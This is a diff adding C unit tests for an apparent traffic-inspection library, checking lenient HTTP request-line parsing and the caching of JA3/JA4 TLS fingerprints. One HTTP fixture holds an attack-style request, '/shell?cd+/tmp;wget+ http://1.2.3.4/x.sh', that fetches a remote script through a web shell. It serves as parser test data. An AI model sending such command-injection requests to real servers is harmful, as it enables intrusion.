@@ -520,6 +520,49 @@ test_http_response(void **state)
 			 VIGIL_L7_HTTP);
 }
 
+/* Request lines as attacks send them: runs of spaces, a space inside the
+ * target, characters after the version's digits, a tab before the version
+ * and a space after it. */
+static void
+test_http_lenient_request_line(void **state)
+{
+	static const char *const lines[][3] = {
+		{ "GET    /aaa_very_long_uri HTTP/1.1\r\nHost: a\r\n\r\n",
+		  "/aaa_very_long_uri", "a" },
+		{ "GET /shell?cd+/tmp;wget+ http://1.2.3.4/x.sh HTTP/1.1\r\n"
+		  "Host: b\r\n\r\n",
+		  "/shell?cd+/tmp;wget+ http://1.2.3.4/x.sh", "b" },
+		{ "GET /w.php?x=1 HTTP/1.0.8\r\nHost: c\r\n\r\n", "/w.php?x=1",
+		  "c" },
+		{ "GET /t\tHTTP/1.1 \r\nHost: d\r\n\r\n", "/t", "d" },
+	};
+	struct vigil_http_req h;
+	struct vigil_l7_ret r;
+
+	(void)state;
+	for (unsigned i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+		r = vigil_http_parse_request((const uint8_t *)lines[i][0],
+					     (uint32_t)strlen(lines[i][0]), &h);
+		assert_int_equal(r.rc, VIGIL_L7_DONE);
+		STR_EQ(h.method, "GET");
+		STR_EQ(h.uri, lines[i][1]);
+		STR_EQ(h.host, lines[i][2]);
+		assert_int_equal(h.version_major, 1);
+	}
+	/* No version: HTTP/0.9, the whole rest is the target. */
+	r = vigil_http_parse_request((const uint8_t *)"GET /a b\r\n", 10, &h);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	STR_EQ(h.uri, "/a b");
+	assert_int_equal(h.version_minor, 9);
+	/* Nothing after the method. */
+	r = vigil_http_parse_request((const uint8_t *)"GET   \r\n\r\n", 10, &h);
+	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
+	/* HTTP/2's preface is not HTTP/1. */
+	r = vigil_http_parse_request(
+		(const uint8_t *)"GET / HTTP/2.0\r\n\r\n", 18, &h);
+	assert_int_equal(r.why, VIGIL_L7_WHY_HTTP_BAD_REQUEST_LINE);
+}
+
 static void
 test_http_bad(void **state)
 {
@@ -904,6 +947,60 @@ test_tls_openssl_hello(void **state)
 					sizeof(tls12_client_hello), true, 6,
 					50000, 8443),
 			 VIGIL_L7_TLS);
+}
+
+/*
+ * The fingerprint memo: a repeated ClientHello gives the same JA3 and JA4
+ * from the memo; one that differs in a cipher's order or in a signature
+ * algorithm gives what a fresh context computes; a different server name
+ * (not a fingerprint input) shares the fingerprints.
+ */
+static void
+test_tls_fingerprint_memo(void **state)
+{
+	struct vigil_l7_crypto *fresh = vigil_l7_crypto_create();
+	struct vigil_tls_client_hello h1, h2, want;
+	uint8_t m[sizeof(tls12_client_hello)];
+	struct vigil_l7_ret r;
+
+	(void)state;
+	assert_non_null(fresh);
+	r = vigil_tls_parse_client(cr, tls12_client_hello,
+				   sizeof(tls12_client_hello), &h1);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	r = vigil_tls_parse_client(cr, tls12_client_hello,
+				   sizeof(tls12_client_hello), &h2);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	assert_string_equal(h2.ja3, "5a1edc7f170af1014fc65c994878e63c");
+	assert_string_equal(h2.ja4, "t13d3111h1_e8f1e7e78f70_1f22a2ca17c4");
+	/* Two ciphers swapped (offsets 78..81: 0x1302, 0x1303): JA3 changes,
+	 * JA4's sorted list does not. */
+	memcpy(m, tls12_client_hello, sizeof(m));
+	assert_int_equal(m[78], 0x13);
+	assert_int_equal(m[79], 0x02);
+	assert_int_equal(m[81], 0x03);
+	m[79] = 0x03, m[81] = 0x02;
+	r = vigil_tls_parse_client(cr, m, sizeof(m), &h2);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	r = vigil_tls_parse_client(fresh, m, sizeof(m), &want);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	assert_string_equal(h2.ja3, want.ja3);
+	assert_string_not_equal(h2.ja3, h1.ja3);
+	assert_string_equal(h2.ja4, want.ja4);
+	assert_string_equal(h2.ja4, h1.ja4);
+	/* A server name one letter different: same fingerprints. */
+	memcpy(m, tls12_client_hello, sizeof(m));
+	for (unsigned i = 0; i + 5 < sizeof(m); i++)
+		if (memcmp(m + i, "vigil", 5) == 0) {
+			m[i] = 'w';
+			break;
+		}
+	r = vigil_tls_parse_client(cr, m, sizeof(m), &h2);
+	assert_int_equal(r.rc, VIGIL_L7_DONE);
+	STR_EQ(h2.server_name, "www.wigil.example");
+	assert_string_equal(h2.ja3, h1.ja3);
+	assert_string_equal(h2.ja4, h1.ja4);
+	vigil_l7_crypto_free(fresh);
 }
 
 /* The ClientHello over two TCP segments: the first says how much the
@@ -1709,6 +1806,8 @@ main(void)
 		cmocka_unit_test(test_http_request),
 		cmocka_unit_test(test_http_response),
 		cmocka_unit_test(test_http_bad),
+		cmocka_unit_test(test_http_lenient_request_line),
+		cmocka_unit_test(test_tls_fingerprint_memo),
 		cmocka_unit_test(test_tls_grease_ja3_ja4),
 		cmocka_unit_test(test_tls_openssl_hello),
 		cmocka_unit_test(test_tls_split_hello),
